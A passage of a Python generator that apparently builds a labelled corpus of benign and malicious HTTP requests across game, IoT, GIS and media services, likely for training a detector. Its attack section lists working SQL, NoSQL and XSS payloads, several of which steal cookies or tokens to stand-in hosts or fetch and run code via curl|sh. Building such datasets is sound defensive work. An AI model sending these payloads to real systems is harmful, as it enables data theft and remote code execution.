            body = jdump({"channel_id": f"2...{r.choice(['global', 'clan_FTW', 'party_' + hexid(r, 6)])}", "content": {"body": msg},
                          "sender": r.choice(GAMERTAGS), "client_ts": ts_ms(r)}, r)
            add("benign", "benign", "chat", "POST", "/v2/chat/messages", headers(r, GAME_HOSTS[1], r.choice(GAMES), "application/json", "application/json", auth="bearer"), body)
        else:
            add("benign", "benign", "chat", "POST", "/chat/send", headers(r, GAME_HOSTS[1], r.choice(GAMES + BROWSERS[:1]), "application/json",
                "application/x-www-form-urlencoded", cookie=session_cookie(r)), qs([("room", "lobby-eu-3"), ("msg", msg)], "form"))
    for _ in range(14):
        k = r.randint(0, 2)
        if k == 0:
            body = jdump({"min_count": 2, "max_count": r.choice([4, 10]), "query": r.choice(["+properties.region:eu +properties.mode:ranked properties.mmr:>=1400 properties.mmr:<=1700",
                          "+properties.mode:casual -properties.blocked:abc123", "*"]), "string_properties": {"region": "eu", "mode": "ranked"},
                          "numeric_properties": {"mmr": r.randint(800, 2600)}}, r)
            add("benign", "benign", "matchmaking", "POST", "/v2/matchmaker/tickets", headers(r, GAME_HOSTS[2], r.choice(GAMES), "application/json", "application/json", auth="bearer"), body)
        elif k == 1:
            add("benign", "benign", "matchmaking", "GET", uri("/v2/matches", [("label", '{"mode":"ranked","open":true}'), ("min_size", 1), ("query", "+label.mode:ranked +label.open:T")], rstyle(r)),
                headers(r, GAME_HOSTS[2], r.choice(GAMES), auth="bearer"))
        else:
            body = jdump({"name": r.choice(["<FTW> For The Win", "Los Tacos 🌮", "Mac & Cheese Squad", "The 'Unkillables'", "[EU] Night Owls"]),
                          "description": "Casual clan, 18+ only. No toxicity! Discord: discord.gg/abc123", "open": True, "lang_tag": "en"}, r)
            add("benign", "benign", "clan", "POST", "/v2/group", headers(r, GAME_HOSTS[0], r.choice(GAMES), "application/json", "application/json", auth="bearer"), body)


# ================================================================ dev-content

NODE_RED_FUNCS = [
    "// parse Shelly payload and convert to SenML\nconst p = JSON.parse(msg.payload);\nif (!p || typeof p.tC !== 'number') { return null; }\n"
    "msg.payload = [{ bn: `urn:dev:${p.id}:`, n: 'temp', u: 'Cel', v: p.tC }];\nmsg.topic = `sensors/${p.id}/temp`;\nreturn msg;",
    "const last = context.get('last') || 0;\nif (Date.now() - last < 5000) { node.status({fill:'yellow', shape:'ring', text:'debounced'}); return null; }\n"
    "context.set('last', Date.now());\nreturn [msg, { payload: msg.payload.state === 'ON' ? 1 : 0 }];",
    "// decode LoRa bytes\nvar b = Buffer.from(msg.payload.uplink_message.frm_payload, 'base64');\nmsg.payload = { t: b.readInt16BE(0) / 100, h: b[2], bat: b[3] & 0x7f };\nreturn msg;",
    "msg.headers = { 'Content-Type': 'application/json' };\nmsg.url = 'https://ingest.fleetgrid.io/v1/devices/' + encodeURIComponent(msg.deviceId) + '/telemetry';\nreturn msg;",
]
FFMPEG_TICKETS = [
    "Hi, transcoding fails for 10-bit HDR sources. I ran locally:\n\nffmpeg -hide_banner -i \"GoPro 0042.MP4\" -vf \"zscale=t=linear:npl=100,format=gbrpf32le,tonemap=hable,zscale=t=bt709:m=bt709:r=tv,format=yuv420p\" -c:v libx264 -crf 20 -preset slow -c:a aac -b:a 160k out.mp4\n\nand it works, but your job says 'Invalid argument'. Thanks!",
    "Support: HLS packaging question.\n```\nffmpeg -i in.mov -filter_complex \"[0:v]split=3[v1][v2][v3];[v1]scale=w=1920:h=1080[v1out];[v2]scale=w=1280:h=720[v2out];[v3]scale=w=854:h=480[v3out]\" \\\n  -map \"[v1out]\" -c:v:0 libx264 -b:v:0 5000k -map \"[v2out]\" -c:v:1 libx264 -b:v:1 2800k \\\n  -f hls -hls_time 6 -hls_playlist_type vod -hls_segment_filename 'stream_%v/seg_%03d.ts' -master_pl_name master.m3u8 -var_stream_map \"v:0 v:1 v:2\" stream_%v.m3u8\n```\nIs this what your 'adaptive' preset does?",
    "Burned-in subtitles come out with wrong font. Command:\nffmpeg -i talk.mp4 -vf \"subtitles=talk.srt:force_style='FontName=Noto Sans,FontSize=22,PrimaryColour=&H00FFFFFF&'\" -c:a copy talk_subbed.mp4",
    "Audio drifts after 40 min. ffprobe says:\n  Stream #0:1(eng): Audio: aac (LC) (mp4a / 0x6134706D), 44100 Hz, stereo, fltp, 128 kb/s (default)\nTried -af \"aresample=async=1:first_pts=0\" with no luck.",
]
POSTGIS_SQL = [
    "SELECT p.parcel_id, p.owner_name, ST_AsGeoJSON(ST_Transform(p.geom, 4326)) AS geometry\nFROM cadastre.parcels p\nWHERE ST_Intersects(p.geom, ST_Transform(ST_MakeEnvelope(-6.30, 53.33, -6.22, 53.37, 4326), 2157))\n  AND p.owner_name ILIKE '%o''brien%'\nORDER BY ST_Area(p.geom) DESC\nLIMIT 50;",
    "WITH buffered AS (\n  SELECT id, ST_Buffer(geom::geography, 500)::geometry AS g FROM transport.bus_stops WHERE route_id = '46A'\n)\nSELECT count(*) FROM public.addresses a JOIN buffered b ON ST_Within(a.geom, b.g);",
    "CREATE INDEX CONCURRENTLY IF NOT EXISTS trails_geom_gix ON public.trails USING GIST (geom);\nANALYZE public.trails;",
    "UPDATE fleet.geofences SET geom = ST_MakeValid(geom) WHERE NOT ST_IsValid(geom);\n-- 14 rows expected",
    "SELECT ST_AsMVT(q, 'parcels', 4096, 'geom') FROM (\n  SELECT id, ST_AsMVTGeom(ST_Transform(geom, 3857), ST_TileEnvelope(14, 7898, 5384), 4096, 64, true) AS geom\n  FROM cadastre.parcels WHERE geom && ST_Transform(ST_TileEnvelope(14, 7898, 5384), 2157)\n) q;",
    "SELECT name, ST_Distance(geom::geography, ST_SetSRID(ST_MakePoint(-9.2, 53.27), 4326)::geography) AS d\nFROM osm.pois WHERE amenity IN ('pub', 'cafe') ORDER BY d LIMIT 10;",
]
GAME_MODS = [
    ("lua", "-- Frostfall mod: double loot on weekends\nlocal M = {}\nfunction M.on_loot(ctx, drops)\n  if os.date('*t').wday == 1 or os.date('*t').wday == 7 then\n    for i, d in ipairs(drops) do d.count = d.count * 2 end\n  end\n  return drops\nend\nreturn M\n"),
    ("lua", "local nk = require(\"nakama\")\nlocal function rpc_reward(context, payload)\n  local data = nk.json_decode(payload)\n  nk.wallet_update(context.user_id, { coins = data.amount or 10 }, {}, true)\n  return nk.json_encode({ ok = true })\nend\nnk.register_rpc(rpc_reward, \"reward\")\n"),
    ("js", "// custom HUD widget\nexport default function render(ctx, state) {\n  const pct = Math.round((state.hp / state.maxHp) * 100);\n  ctx.fillStyle = pct < 25 ? '#e33' : '#3e3';\n  ctx.fillRect(10, 10, pct * 2, 12);\n  ctx.fillText(`${state.name} <${state.clan}> ${pct}%`, 10, 40);\n}\n"),
    ("js", "function InitModule(ctx, logger, nk, initializer) {\n  initializer.registerRpc('healthcheck', function (ctx, logger, nk, payload) {\n    logger.info('healthcheck from %s', ctx.userId);\n    return JSON.stringify({ success: true });\n  });\n}\n"),
]
HA_YAML = [
    "automation:\n  - alias: \"Greenhouse too hot\"\n    trigger:\n      - platform: numeric_state\n        entity_id: sensor.greenhouse_temperature\n        above: 30\n    condition: \"{{ is_state('input_boolean.vacation', 'off') }}\"\n    action:\n      - service: notify.mobile_app_pixel_8\n        data:\n          message: \"Greenhouse is {{ states('sensor.greenhouse_temperature') }} °C — open the vents!\"\n",
    "template:\n  - sensor:\n      - name: \"Average indoor temp\"\n        unit_of_measurement: \"°C\"\n        state: >\n          {% set temps = [states('sensor.kitchen_temp'), states('sensor.office_temp')] | map('float', 0) | list %}\n          {{ (temps | sum / temps | length) | round(1) }}\n",
]
SHELL_DOCS = [
    "# Provisioning a new gateway\nexport GW_ID=gw-$(cat /sys/class/net/eth0/address | tr -d ':')\ncurl -fsSL https://ota.fleetgrid.io/v1/bootstrap.sh -o /tmp/bootstrap.sh && sha256sum -c bootstrap.sh.sha256\nsudo sh /tmp/bootstrap.sh --id \"$GW_ID\" --region eu-west-1\nmosquitto_sub -h mqtt.fleetgrid.io -p 8883 --cafile ca.pem -t 'fleet/+/status' -v\n",
    "ogr2ogr -f GeoJSON parcels.geojson \"PG:host=localhost dbname=gis user=gis\" -sql \"SELECT id, owner_name, geom FROM cadastre.parcels WHERE county = 'Galway'\" -t_srs EPSG:4326\ngdalwarp -t_srs EPSG:3857 -r bilinear -co COMPRESS=DEFLATE dem.tif dem_3857.tif\n",
    "kubectl -n iot logs deploy/mqtt-bridge --since=1h | grep -E 'disconnect|timeout' | awk '{print $5}' | sort | uniq -c | sort -rn | head\n",
]


def d_dev_content(r):
    def ticket(path, text, host):
        body = jdump({"subject": text.splitlines()[0][:60], "body": text, "product": host.split(".")[0], "priority": r.choice(["low", "normal"])}, r)
        add("benign", "dev-content", "ticket", "POST", path, headers(r, host, r.choice(BROWSERS), "application/json", "application/json", cookie=session_cookie(r)), body)
    for i in range(8):
        f = NODE_RED_FUNCS[i % len(NODE_RED_FUNCS)]
        flow = [{"id": hexid(r, 16), "type": "function", "z": hexid(r, 16), "name": r.choice(["to SenML", "debounce", "decode LoRa", "build request"]),
                 "func": f, "outputs": 1 + (i % 2), "timeout": 0, "noerr": 0, "x": r.randint(100, 900), "y": r.randint(40, 600), "wires": [[hexid(r, 16)]]}]
        add("benign", "dev-content", "nodered-flow", "POST", "/flows", headers(r, IOT_HOSTS[5], r.choice(BROWSERS), "application/json", "application/json",
            extra=[["Node-RED-API-Version", "v2"], ["Node-RED-Deployment-Type", "nodes"]], auth="Bearer " + b64u(r.randbytes(32))), jdump({"flows": flow, "rev": hexid(r, 32)}, r))
    for i in range(8):
        ticket("/api/v2/tickets", FFMPEG_TICKETS[i % len(FFMPEG_TICKETS)] + ("" if i < 4 else f"\n\nJob id: {uuid4(r)}"), "support.streamly.tv")
    for i in range(12):
        sql = POSTGIS_SQL[i % len(POSTGIS_SQL)]
        if i >= 6:
            sql = sql.replace("LIMIT 50", "LIMIT 100").replace("'46A'", "'15B'") + "\n-- rerun " + str(i)
        body = jdump({"query": sql, "database": "gis", "timeout_ms": 30000}, r) if i % 3 else qs([("sql", sql), ("db", "gis")], "form")
        add("benign", "dev-content", "postgis-console", "POST", "/admin/sql/run", headers(r, "pgadmin.gis.svc.cluster.local", r.choice(BROWSERS), "application/json",
            "application/json" if i % 3 else "application/x-www-form-urlencoded", cookie=session_cookie(r)), body)
    for i in range(8):
        lang, src = GAME_MODS[i % len(GAME_MODS)]
        if i >= 4:
            src = src.replace("10", "25") + f"\n-- v{i}\n"
        if r.random() < 0.5:
            body = jdump({"name": f"mod_{hexid(r, 4)}.{lang}", "lang": lang, "source": src, "workshop": True}, r)
            add("benign", "dev-content", "game-mod", "POST", "/v1/workshop/mods", headers(r, GAME_HOSTS[0], r.choice(GAMES), "application/json", "application/json", auth="bearer"), body)
        else:
            add("benign", "dev-content", "game-mod", "PUT", f"/v1/workshop/mods/{r.randint(1000, 9999)}/source.{lang}",
                headers(r, GAME_HOSTS[0], r.choice(GAMES), "application/json", "text/x-lua" if lang == "lua" else "application/javascript", auth="bearer"), src)
    for i in range(6):
        add("benign", "dev-content", "ha-config", "POST", "/api/config/core/check_config" if i % 2 else "/api/hassio/app/entrypoint/config",
            headers(r, IOT_HOSTS[4], r.choice(BROWSERS), "application/json", "application/json", auth="Bearer " + jwt(r)), jdump({"yaml": HA_YAML[i % 2]}, r))
    for i in range(6):
        ticket("/api/v2/tickets", SHELL_DOCS[i % len(SHELL_DOCS)] + ("" if i < 3 else "\n(works on staging, not prod)"), "support.fleetgrid.io")
    for i in range(4):
        style = {"version": 8, "layers": [{"id": "parcels-fill", "type": "fill", "source": "parcels", "source-layer": "parcels",
                  "filter": ["all", ["==", ["get", "zoning"], "R-1"], [">=", ["to-number", ["get", "area_m2"]], 400 + i * 100]],
                  "paint": {"fill-color": ["case", ["boolean", ["feature-state", "hover"], False], "#f80", ["interpolate", ["linear"], ["zoom"], 10, "#ccc", 16, "#8a8"]]}},
                  {"id": "labels", "type": "symbol", "source": "parcels", "layout": {"text-field": ["concat", ["get", "owner_name"], " (", ["get", "parcel_id"], ")"]}}]}
        add("benign", "dev-content", "map-style", "PUT", f"/styles/v1/mapforge/cadastre-{i}", headers(r, GEO_HOSTS[0], r.choice(BROWSERS), "application/json", "application/json", auth="bearer"), jdump(style, r))


# ================================================================ attacks

def ag(r, cat, sub, host, path, pairs, ua=None, style=None, accept="application/json", auth=None, extra=(), method="GET"):
    """An attack in a query string."""
    style = style or rstyle(r)
    add("attacks", cat, sub, method, uri(path, pairs, style),
        headers(r, host, ua or r.choice(BROWSERS + MOBILE + GIS_CLIENTS), accept, auth=auth, extra=extra))


def ap(r, cat, sub, host, path, body, ctype="application/json", ua=None, auth="bearer", method="POST", extra=(), accept="application/json"):
    """An attack in a request body."""
    add("attacks", cat, sub, method, path, headers(r, host, ua or r.choice(MOBILE + DEVICES + BROWSERS), accept, ctype, auth=auth, extra=extra), body)


def apath(r, cat, sub, host, path, ua=None, accept="*/*", extra=()):
    """An attack in the path itself (already encoded as the client sends it)."""
    add("attacks", cat, sub, "GET", path, headers(r, host, ua or r.choice(BROWSERS + PLAYERS), accept, extra=extra))


def wfs_get(r, sub, cql, cat="sqli", param="CQL_FILTER"):
    pairs = [("service", "WFS"), ("version", "1.0.0"), ("request", "GetFeature"), ("typeName", r.choice(LAYERS)),
             ("outputFormat", "application/json"), (param, cql)]
    ag(r, cat, sub, r.choice(GEO_HOSTS[1:4]), "/geoserver/ows", pairs, ua=r.choice(BROWSERS + GIS_CLIENTS))


def wms_get(r, sub, extra_pairs, cat="sqli"):
    pairs = [("SERVICE", "WMS"), ("VERSION", "1.1.1"), ("REQUEST", "GetMap"), ("LAYERS", r.choice(LAYERS)), ("STYLES", ""),
             ("SRS", "EPSG:4326"), ("WIDTH", 256), ("HEIGHT", 256), ("FORMAT", "image/png")] + extra_pairs
    if not any(k.upper() == "BBOX" for k, _ in extra_pairs):
        pairs.append(("BBOX", ",".join(map(str, bbox(r)))))
    ag(r, cat, sub, r.choice(GEO_HOSTS[1:4]), "/geoserver/wms", pairs, ua=r.choice(BROWSERS + GIS_CLIENTS), accept="image/png,*/*")


def a_sqli(r):
    c = "sqli"
    wfs_get(r, "cql", "name = 'Dublin' OR 1=1--")
    wfs_get(r, "cql", "INTERSECTS(the_geom, POINT(1 1)) AND id IN (SELECT usesysid FROM pg_user WHERE usesuper)")
    wfs_get(r, "cql", "strStartsWith(name,'x'') = true and 1=(SELECT CAST ((SELECT version()) AS INTEGER)) -- ') = true")
    wfs_get(r, "cql", "PropertyIsLike(name,'a'') OR 1=1 UNION SELECT usename,passwd,null FROM pg_shadow-- ')")
    wfs_get(r, "cql", "jsonArrayContains(tags, 'x'') = true AND 1=(SELECT 1 FROM pg_sleep(10)) --', 'a') = true")
    wfs_get(r, "cql", "population > 0 UnIoN/**/SeLeCt/**/table_name,null,null/**/FrOm/**/information_schema.tables--")
    wfs_get(r, "cql", "name LIKE '%' AND (SELECT 1 FROM (SELECT(SLEEP(7)))x) AND '%'='")
    wfs_get(r, "featureid", "roads.1' OR '1'='1", param="FEATUREID")
    wfs_get(r, "sortby", "name;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--", param="sortBy")
    wfs_get(r, "propertyname", "name,(SELECT passwd FROM pg_shadow LIMIT 1) AS leak", param="propertyName")
    wms_get(r, "bbox", [("BBOX", "-10,50,10,60;DROP TABLE cadastre.parcels--")])
    wms_get(r, "bbox", [("BBOX", "1,1,1,1) AND 1=CAST((SELECT string_agg(rolname,',') FROM pg_roles) AS int) AND (1=1")])
    wms_get(r, "viewparams", [("viewparams", "zone:R-1') UNION SELECT null,current_user,inet_server_addr()::text--")])
    wms_get(r, "time", [("TIME", "2026-01-01' AND extractvalue(1,concat(0x7e,(select database())))-- -")])
    wms_get(r, "cql", [("CQL_FILTER", "INTERSECTS(the_geom, POLYGON((30 10, 40 40, 20 40, 30 10))) OR 1=1/*")])
    host = GEO_HOSTS[4]
    ag(r, c, "features-filter", host, "/collections/public.parcels/items",
       [("filter", "ST_Intersects(geom, ST_GeomFromText('POINT(0 0)',4326)) OR 1=(SELECT 1 FROM pg_sleep(5))")])
    ag(r, c, "features-wkt", host, "/collections/public.parcels/items",
       [("geometry", "POLYGON((30 10, 40 40, 20 40, 30 10))',4326)) OR '1'='1"), ("spatialRel", "ST_Intersects")])
    ag(r, c, "features-wkt", host, "/collections/public.trails/items",
       [("geometry", "POINT(1 1)'),4326)) UNION ALL SELECT NULL,ST_AsText(geom),owner_name||':'||owner_email FROM cadastre.parcels--")])
    ag(r, c, "features-bbox", host, "/collections/fleet.geofences/items", [("bbox", "-6.3,53.3,-6.2,53.4) OR 1=1--")])
    ag(r, c, "features-props", host, "/collections/public.parcels/items", [("properties", "name,(select/**/pg_read_file('/etc/passwd'))")])
    ag(r, c, "features-sort", host, "/collections/ne.countries/items", [("sortby", "(CASE WHEN (SELECT substr(current_user,1,1))='p' THEN name ELSE pop_est END)")])
    ag(r, c, "features-fn", host, "/collections/public.parcels/items", [("lon", "-6.2"), ("lat", "53.3"), ("fn", "ST_DistanceSphere;COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/x|sh'--")])
    host = GEO_HOSTS[5]
    ag(r, c, "geocode", host, "/search", [("q", "London' UNION ALL SELECT NULL,version(),NULL,NULL--"), ("format", "json")])
    ag(r, c, "geocode", host, "/search", [("q", "x' AND 1=dbms_pipe.receive_message(('a'),6)--"), ("format", "jsonv2")])
    ag(r, c, "geocode", host, "/reverse", [("lat", "53.34 AND 1=1"), ("lon", "-6.26 UNION SELECT 1,2,3,group_concat(username,0x3a,password) FROM users#")])
    ag(r, c, "geocode", host, "/search", [("q", "'||utl_inaddr.get_host_address((select user from dual))||'")])
    ag(r, c, "geocode", host, "/search", [("q", "Main St'; WAITFOR DELAY '0:0:6'--")])
    host = GAME_HOSTS[3]
    ag(r, c, "leaderboard", host, "/v2/leaderboards/weekly_kills", [("order", "score desc, (select case when (1=1) then 1 else 1/0 end)")], ua=r.choice(GAMES))
    ag(r, c, "leaderboard", host, "/v2/leaderboards/season_7_mmr", [("limit", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)")], ua=r.choice(GAMES))
    ag(r, c, "leaderboard", host, "/v2/leaderboards/weekly_kills", [("region", "eu' AND ascii(substring((select password from players limit 1),1,1))>64--")], ua=r.choice(GAMES))
    apath(r, c, "device-id", IOT_HOSTS[6], "/things/esp32-4fa1b2%27%20OR%20%271%27%3D%271/shadow", ua="curl/8.5.0")
    apath(r, c, "device-id", IOT_HOSTS[0], "/v1/devices/42%20AND%201%3D0%20UNION%20SELECT%20api_key%2Cnull%20FROM%20devices--/telemetry", ua="python-requests/2.31.0")
    ap(r, c, "telemetry", IOT_HOSTS[0], "/v1/devices/th-1a2b3c/telemetry",
       jdump({"deviceId": "th-1a2b3c' AND updatexml(null,concat(0x0a,version()),null)-- -", "temp_c": 21.4}))
    ap(r, c, "telemetry", IOT_HOSTS[0], "/senml/ingest",
       jdump([{"bn": "urn:dev:mac:0024befffe804ff1:", "n": "temp'); INSERT INTO users(name,role) VALUES('svc','admin');--", "v": 1}]), "application/senml+json")
    ap(r, c, "offline-sync", MOB_HOSTS[0], "/v1/sync",
       jdump({"since": "0 UNION SELECT sql,name,type FROM sqlite_master--", "tables": ["trails"]}))
    ap(r, c, "analytics", MOB_HOSTS[4], "/v1/batch",
       jdump({"events": [{"event": "search", "props": {"query": "x\" AND 1=(SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3)--"}}]}))
    ap(r, c, "chat-search", GAME_HOSTS[1], "/chat/search", qs([("room", "lobby-eu-3"), ("q", "gg');EXEC xp_cmdshell('whoami');--")], "form"),
       "application/x-www-form-urlencoded", ua=r.choice(GAMES))
    ap(r, c, "wfs-xml", GEO_HOSTS[3], "/geoserver/wfs",
       wfs_getfeature_xml(r, "cadastre:parcels", "      <fes:PropertyIsEqualTo><fes:ValueReference>owner_name</fes:ValueReference>"
                          "<fes:Literal>x' UNION SELECT usename, passwd FROM pg_shadow WHERE ''='</fes:Literal></fes:PropertyIsEqualTo>"),
       "text/xml", ua=r.choice(GIS_CLIENTS))
    ag(r, c, "firebase", MOB_HOSTS[0], "/v1/trails", [("region", "%27%20oR%20%27a%27%3D%27a"), ("limit", 20)], style="min")
    ag(r, c, "media", MEDIA_HOSTS[1], "/v1/videos", [("sort", "created_at,(SELECT 1 FROM (SELECT SLEEP(5))a)"), ("page", 2)])
    ag(r, c, "media", MEDIA_HOSTS[1], "/v1/videos", [("owner", "admin'/*"), ("visibility", "*/OR/**/1=1#")])
    ap(r, c, "login", GAME_HOSTS[0], "/v2/account/authenticate/email",
       jdump({"email": "admin@skyforge-game.com' -- ", "password": "x"}), ua=r.choice(GAMES), auth=None)
    ag(r, c, "lwm2m", IOT_HOSTS[2], "/api/clients", [("ep", "urn:imei:3569' AND 8412=CAST((CHR(113)||CHR(112)||(SELECT (CASE WHEN (8412=8412) THEN 1 ELSE 0 END))::text) AS NUMERIC)-- Xq")])


def a_nosqli(r):
    c = "nosqli"
    fb = MOB_HOSTS[1]
    ag(r, c, "firebase", MOB_HOSTS[0], "/v1/login", [("username[$ne]", "x"), ("password[$ne]", "x")], style="js")
    ag(r, c, "firebase", MOB_HOSTS[0], "/v1/users", [("email[$regex]", "^adm"), ("email[$options]", "i")], style="min")
    ag(r, c, "leaderboard", GAME_HOSTS[3], "/v2/leaderboards/weekly_kills/records",
       [("filter", '{"score":{"$gt":0},"$where":"this.password.length > 0"}')], ua=r.choice(GAMES))
    ap(r, c, "login", GAME_HOSTS[0], "/v2/account/authenticate/email", jdump({"email": {"$gt": ""}, "password": {"$gt": ""}}), ua=r.choice(GAMES), auth=None)
    ap(r, c, "device-auth", IOT_HOSTS[0], "/v1/devices/auth", jdump({"deviceId": "esp32-4fa1b2", "secret": {"$ne": None}}), ua="ESP32HTTPClient", auth=None)
    ap(r, c, "shadow", IOT_HOSTS[6], "/things/query", jdump({"thingName": {"$regex": ".*"}, "$where": "sleep(5000) || true"}))
    ap(r, c, "telemetry", IOT_HOSTS[0], "/v1/telemetry/search", jdump({"deviceId": "trk-00917", "$or": [{"owner": {"$exists": True}}, {"apiKey": {"$exists": True}}]}))
    ap(r, c, "aggregate", IOT_HOSTS[0], "/v1/telemetry/aggregate",
       jdump({"pipeline": [{"$match": {}}, {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
                           {"$project": {"u.passwordHash": 1, "u.email": 1}}]}))
    ap(r, c, "function", GAME_HOSTS[3], "/v2/leaderboards/query",
       jdump({"filter": {"$expr": {"$function": {"body": "function(){ return require('child_process').execSync('id').toString() }", "args": [], "lang": "js"}}}}), ua=r.choice(GAMES))
    ap(r, c, "where-js", MOB_HOSTS[0], "/v1/trails/search", jdump({"name": "x'; return true; var a='", "$where": "function(){return this.region == 'x' || '1'=='1'}"}))
    ap(r, c, "form", GAME_HOSTS[1], "/chat/history", "room=lobby&user[$nin][]=nobody&since[$gte]=0", "application/x-www-form-urlencoded", ua=r.choice(GAMES))
    ag(r, c, "firebase-mongo", MOB_HOSTS[0], "/v1/trails.json", [("orderBy", '"$key"'), ("equalTo", '{"$ne":null}'), ("region[$exists]", "false")])
    ap(r, c, "couch", IOT_HOSTS[6], "/fleet/_find", jdump({"selector": {"_id": {"$gt": None}, "type": {"$regex": "(?i)user|credential"}}, "fields": ["_id", "password", "token"], "limit": 10000}))
    ag(r, c, "media", MEDIA_HOSTS[1], "/v1/videos", [("visibility[$in][]", "private"), ("visibility[$in][]", "unlisted"), ("owner[$ne]", "me")])
    ap(r, c, "push", MOB_HOSTS[2], "/v1/push/tokens/lookup", jdump({"token": {"$regex": "^APA91", "$options": "s"}, "userId": {"$nin": []}}))
    ap(r, c, "mapreduce", IOT_HOSTS[0], "/v1/devices/mapreduce", jdump({"map": "function(){ emit(this.apiKey, db.getSiblingDB('admin').system.users.find().toArray()) }", "reduce": "function(k,v){return v}"}))


def a_xss(r):
    c = "xss"
    chat = [
        "gg <script>fetch('https://x.example/c?'+document.cookie)</script>",
        "lol <img src=x onerror=alert(document.domain)>",
        "<svg/onload=eval(atob('ZmV0Y2goJy8vZXZpbC5leGFtcGxlLycrbG9jYWxTdG9yYWdlLnRva2VuKQ=='))>",
        "check this <a href=\"javascript:alert(1)\">free skins</a> 😍",
        "<iframe srcdoc=\"&lt;script&gt;parent.location='//x.example/?'+parent.document.cookie&lt;/script&gt;\"></iframe>",
        "<details open ontoggle=confirm`1`>gg</details>",
        "\"><ScRiPt>new Image().src='//203.0.113.7/'+document.cookie</sCrIpT>",
        "<body onpageshow=alert(1)>",
    ]
    for i, m in enumerate(chat):
        if i % 2:
            ap(r, c, "chat", GAME_HOSTS[1], "/v2/chat/messages", jdump({"channel_id": "2...global", "content": {"body": m}}), ua=r.choice(GAMES))
        else:
            ap(r, c, "chat", GAME_HOSTS[1], "/chat/send", qs([("room", "lobby-eu-3"), ("msg", m)], r.choice(["form", "js"])),
               "application/x-www-form-urlencoded", ua=r.choice(GAMES + BROWSERS[:1]), auth=None)
    names = [
        "Kitchen<script>alert('pwn')</script>",
        "pump3\"><img src=1 onerror=\"this.src='//x.example/?c='+document.cookie\">",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "gw-07<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ]
    for i, n in enumerate(names):
        if i % 2:
            ap(r, c, "device-name", IOT_HOSTS[6], f"/things/{dev_id(r)}/shadow", jdump({"state": {"desired": {"name": n}}}))
        else:
            ap(r, c, "device-name", IOT_HOSTS[0], f"/v1/devices/{dev_id(r)}", jdump({"name": n, "location": "Bay 12"}), method="PATCH")
    ap(r, c, "geojson-popup", GEO_HOSTS[4], "/collections/user.trails/items",
       jdump({"type": "FeatureCollection", "features": [geojson_feature(r, {"name": "<img src=x onerror=alert(document.cookie)>", "difficulty": "easy"})]}), "application/geo+json")
    ap(r, c, "geojson-popup", GEO_HOSTS[4], "/collections/user.trails/items/77",
       jdump(geojson_feature(r, {"notes": "Nice view <div style=\"background:url(javascript:alert(1))\" onmouseover=\"alert(2)\">hover</div>"})), "application/geo+json", method="PUT")
    ag(r, c, "jsonp", GEO_HOSTS[3], "/geoserver/wfs", [("service", "WFS"), ("request", "GetFeature"), ("typeName", "topp:states"),
       ("outputFormat", "text/javascript"), ("format_options", "callback:alert(document.domain)//")])
    ag(r, c, "wms-error", GEO_HOSTS[3], "/geoserver/wms", [("SERVICE", "WMS"), ("REQUEST", "GetMap"), ("LAYERS", "topp:states</ServiceException><script>alert(1)</script>"),
       ("EXCEPTIONS", "application/vnd.ogc.se_inimage")])
    ag(r, c, "geocode", GEO_HOSTS[5], "/search", [("q", "\"><svg onload=alert(1)>"), ("format", "html")], accept="text/html")
    ag(r, c, "deeplink", MOB_HOSTS[5], "/open", [("url", "javascript:alert(document.cookie)//trailmate://trail/1")], accept="text/html")
    ag(r, c, "deeplink", MOB_HOSTS[5], "/", [("link", "https://trailmate.app/trail/9"), ("st", "</title><script src=//x.example/h.js></script>")], accept="text/html")
    ag(r, c, "deeplink", MOB_HOSTS[5], "/open", [("fallback", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")], accept="text/html")
    ap(r, c, "profile", MOB_HOSTS[0], "/v1/me", jdump({"displayName": "Zoë", "bio": "hi \u003cscript\u003ealert(1)\u003c/script\u003e"}).replace("<", "\\u003c").replace(">", "\\u003e"), method="PATCH")
    ap(r, c, "clan", GAME_HOSTS[0], "/v2/group", jdump({"name": "<FTW><marquee onstart=alert(1)>", "description": "join", "open": True}), ua=r.choice(GAMES))
    bnd = "----WebKitFormBoundaryQ7rX2v9LmA0pZ3kE"
    svg = ('<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="32" height="32">\n'
           '  <circle cx="16" cy="16" r="12" fill="#e33"/>\n  <script type="text/javascript">alert(document.domain)</script>\n</svg>\n')
    ap(r, c, "svg-marker", GEO_HOSTS[0], "/styles/v1/mapforge/sprites/upload",
       f'--{bnd}\r\nContent-Disposition: form-data; name="icon"; filename="marker-red.svg"\r\nContent-Type: image/svg+xml\r\n\r\n{svg}\r\n--{bnd}--\r\n',
       f"multipart/form-data; boundary={bnd}", ua=r.choice(BROWSERS))
    v = "WEBVTT\n\n1\n00:00:01.000 --> 00:00:04.000\n<c.yellow>Hello</c><img src=x onerror=alert(1)>\n"
    ap(r, c, "subtitles", MEDIA_HOSTS[2], "/v1/videos/a1b2c3d4e5/captions/en.vtt", v, "text/vtt", ua=r.choice(BROWSERS), method="PUT")
    s = "1\n00:00:01,000 --> 00:00:03,000\n<font color=\"red\" onmouseover=\"alert(1)\">Narrator</font>\n"
    ap(r, c, "subtitles", MEDIA_HOSTS[2], "/v1/videos/f6e5d4c3b2/captions/ga.srt", s, "application/x-subrip", ua=r.choice(BROWSERS), method="PUT")
    ap(r, c, "podcast", MEDIA_HOSTS[5], "/v1/feeds", jdump({"url": "https://feeds.example.org/x.xml", "title": "My show<svg/onload=alert`xss`>"}))
    ap(r, c, "push", MOB_HOSTS[2], "/v1/notifications/preview", jdump({"title": "Trail closed", "body": "<a href=jAvAsCrIpT:alert(1)>details</a>"}))
    ag(r, c, "image", MEDIA_HOSTS[4], "/_next/image", [("url", "/uploads/x.jpg\"><script>alert(1)</script>"), ("w", 640), ("q", 75)], accept="image/*")
    ap(r, c, "ha-webhook", IOT_HOSTS[4], f"/api/webhook/{b64u(r.randbytes(24))}",
       jdump({"event": "arrived", "zone": "Home", "device": "<img src=/ onerror=import('//x.example/a.js')>"}), auth=None)
